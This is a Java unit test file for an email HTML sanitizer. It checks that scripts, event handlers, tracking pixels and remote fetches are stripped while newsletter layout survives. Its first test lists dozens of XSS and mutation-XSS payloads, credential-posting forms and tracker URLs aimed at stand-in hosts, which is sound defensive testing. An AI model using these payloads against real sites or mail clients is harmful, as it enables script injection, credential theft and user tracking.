package dev.valija.message;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.valija.message.HtmlSanitizer.Options;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTests {
    private static final Options BLOCKED =
            Options.blocked(cid -> cid.equals("logo@example.org") ? "/api/v1/messages/1-2/parts/2" : null);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src=`x` onerror=alert(1)//",
                "<body onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" &#1; javascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"/api/v1/session\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<img src=\"/api/v1/accounts\">",
                "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
                "<img srcset=\"https://tracker.example/a.png 2x\">",
                "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
                "<svg><script>alert(1)</script></svg>",
                "<svg onload=alert(1)>",
                "<svg><image href=\"https://tracker.example/x\"/></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/x\">",
                "<base href=\"https://evil.example/\"><a href=\"x\">y</a>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
                "<div style=\"background:url(https://tracker.example/x.png)\">x</div>",
                "<div style=\"background:u\\72l(https://tracker.example/x.png)\">x</div>",
                "<div style=\"list-style-image:image-set('https://tracker.example/x.png' 1x)\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"-moz-binding:url(//evil.example/x.xml#y)\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;z-index:99999\">cover</div>",
                "<style>@import url(https://tracker.example/x.css); body{background:url(//tracker.example/y)}</style><p>x",
                "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><img src=x onerror=alert(1)></template>",
                "<table background=\"https://tracker.example/bg.png\"><tr><td background=//tracker.example/b>x</table>",
                "<video poster=\"https://tracker.example/p\" autoplay><source src=\"https://tracker.example/v\"></video>",
                "<audio src=\"https://tracker.example/a\" autoplay></audio>",
                "<input type=image src=\"https://tracker.example/i\">",
                "<a href=\"https://example.org\" ping=\"https://tracker.example\">x</a>",
                "<!--[if mso]><img src=https://tracker.example/o><![endif]-->x",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<x-foo onclick=alert(1) is=y>z</x-foo>",
                "<div id=\"app\" class=\"dialog\" data-x=y slot=z contenteditable autofocus tabindex=1>x</div>",
                "<<script>script>alert(1)<</script>/script>",
                "<img src=\"x\0\" onerror\0=alert(1)>",
                "<title><img src=x onerror=alert(1)></title>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<plaintext><img src=https://tracker.example/x>",
            })
    void nothingThatActsOrFetchesComesThrough(String hostile) {
        String clean = HtmlSanitizer.clean(hostile, BLOCKED).html();

        assertHarmless(clean);
    }

    /** Nothing but allowed elements and attributes, and no address but those of links and of our own making. */
    static void assertHarmless(String clean) {
        for (Element element : Jsoup.parse(clean).body().getAllElements()) {
            assertThat(element.normalName())
                    .isNotIn("script", "svg", "math", "iframe", "object", "embed", "base", "meta", "link", "form")
                    .isNotIn("input", "button", "style", "video", "audio", "template", "textarea", "noscript", "title");
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey())
                        .doesNotStartWith("on")
                        .isNotIn("id", "srcset", "background", "ping", "action");
                String value = attribute.getValue().toLowerCase(Locale.ROOT);
                switch (attribute.getKey()) {
                    case "href" -> assertThat(value).matches("https?://.*|mailto:.*|tel:.*");
                    case "src" -> assertThat(value).startsWith("data:image/png");
                    case "style" ->
                        assertThat(value).doesNotContain("url", "expression", "position", "\\", "image-set");
                    case "class" -> assertThat(value).isEqualTo(HtmlSanitizer.BLOCKED_IMAGE);
                    default -> assertThat(value).doesNotContain("tracker.example");
                }
            });
        }
    }

    @Test
    void anInlineImageIsShownFromItsPart() {
        String clean = HtmlSanitizer.clean("<img src=\"cid:logo%40example.org\" alt=Logo width=\"40\">", BLOCKED)
                .html();

        assertThat(image(clean).attr("src")).isEqualTo("/api/v1/messages/1-2/parts/2");
        assertThat(image(clean).attr("alt")).isEqualTo("Logo");
        assertThat(image(clean).attr("width")).isEqualTo("40");
    }

    @Test
    void aMissingInlineImageLeavesAPlaceholder() {
        assertThat(image(HtmlSanitizer.clean("<img src=cid:none alt=x>", BLOCKED)
                                .html())
                        .hasAttr("src"))
                .isFalse();
    }

    @Test
    void remoteImagesAreCountedOnceEachAndLeavePlaceholders() {
        var clean = HtmlSanitizer.clean(
                "<img src=https://a.example/1.png alt=One><img src=https://a.example/1.png>"
                        + "<table background=https://a.example/2.png><tr><td style=\"background:url('https://a.example/3.png')\">x",
                BLOCKED);

        assertThat(clean.blockedRemote()).isEqualTo(3);
        assertThat(clean.html()).doesNotContain("a.example");
        assertThat(image(clean.html()).className()).isEqualTo(HtmlSanitizer.BLOCKED_IMAGE);
        assertThat(image(clean.html()).attr("alt")).isEqualTo("One");
    }

    @Test
    void aTrackingPixelLeavesNothingButIsCounted() {
        var clean = HtmlSanitizer.clean("<p>Hi</p><img src=https://a.example/p.gif width=1 height=1>", BLOCKED);

        assertThat(clean.html()).doesNotContain("img");
        assertThat(clean.blockedRemote()).isEqualTo(1);
    }

    @Test
    void remoteImagesGoThroughTheProxyWhereThereIsOne() {
        var clean = HtmlSanitizer.clean(
                "<img src=\"https://a.example/1.png?a=1&amp;b=2\"><img src=//a.example/2.png>",
                new Options(cid -> null, url -> "/proxy?of=" + url.length() + url.substring(0, 6)));

        assertThat(Jsoup.parse(clean.html()).select("img").eachAttr("src"))
                .containsExactly("/proxy?of=31https:", "/proxy?of=23https:");
        assertThat(clean.blockedRemote()).isZero();
    }

    @Test
    void linksOpenElsewhereAndTellNothing() {
        var link = Jsoup.parse(
                        HtmlSanitizer.clean("<a href=\"HTTPS://example.org/?q=1&amp;r=2#x\" target=_top>x</a>", BLOCKED)
                                .html())
                .selectFirst("a");

        assertThat(link.attr("href")).isEqualTo("HTTPS://example.org/?q=1&r=2#x");
        assertThat(link.attr("target")).isEqualTo("_blank");
        assertThat(List.of(link.attr("rel").split(" "))).contains("noopener", "noreferrer", "nofollow");
    }

    @Test
    void aNewsletterKeepsItsLayout() {
        String clean = HtmlSanitizer.clean("""
                        <html><head><style>
                          .button { background-color: #0055aa; color: white; padding: 12px }
                          @media (max-width: 600px) { .button { display: block } }
                          td.cell { font-size: 14px }
                        </style></head>
                        <body bgcolor="#eeeeee" style="margin:0">
                        <table width="600" align="center" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff">
                          <tr><td class="cell" valign="top" colspan="2" style="font-family:Arial,sans-serif;color:#333333">
                            <font color="red" face="Arial" size="2">Sale</font>
                            <a class="button" href="https://shop.example/">Shop</a></td></tr>
                        </table></body></html>""", BLOCKED).html();
        var page = Jsoup.parse(clean);

        assertThat(page.selectFirst("body > div").attr("style")).contains("background-color:#eeeeee", "margin:0");
        assertThat(page.selectFirst("table").attributes().asList().toString())
                .contains("width=\"600\"", "align=\"center\"", "bgcolor=\"#ffffff\"", "cellpadding=\"0\"");
        assertThat(page.selectFirst("td").attr("style")).contains("font-size:14px", "color:#333333", "font-family");
        assertThat(page.selectFirst("td").attr("colspan")).isEqualTo("2");
        assertThat(page.selectFirst("a").attr("style"))
                .contains("background-color:#0055aa", "padding:12px")
                .doesNotContain("block");
        assertThat(page.selectFirst("font").attr("color")).isEqualTo("red");
    }

    @Test
    void embeddedPicturesMayStay() {
        String source = "data:image/png;base64,iVBORw0KGgo=";

        assertThat(image(HtmlSanitizer.clean("<img src=\"" + source + "\">", BLOCKED)
                                .html())
                        .attr("src"))
                .isEqualTo(source);
    }

    @Test
    void textStaysText() {
        assertThat(HtmlSanitizer.clean("1 &lt; 2 &amp; <b>3</b> > 2 — ü 漢", BLOCKED)
                        .html())
                .isEqualTo("1 &lt; 2 &amp; <b>3</b> &gt; 2 — ü 漢");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div>",
                "<table><tr><td>",
                "<b>",
                "<a href=x>",
                "<style>",
                "<blockquote>",
                "<svg>",
                "<!--",
                "<",
                "&"
            })
    void hostileNestingIsDoneInTime(String piece) {
        String html = piece.repeat(200_000) + "x";

        var clean = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> HtmlSanitizer.clean(html, BLOCKED));
        assertThat(clean.html().length()).isLessThan(html.length() * 8);
    }

    @Test
    void hostileStyleSheetsAreDoneInTime() {
        String html = "<style>" + "div *{color:red}".repeat(10_000) + "</style>" + "<div>".repeat(5_000) + "x";

        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> HtmlSanitizer.clean(html, BLOCKED));
    }

    private static Element image(String html) {
        return Jsoup.parse(html).selectFirst("img");
    }
}
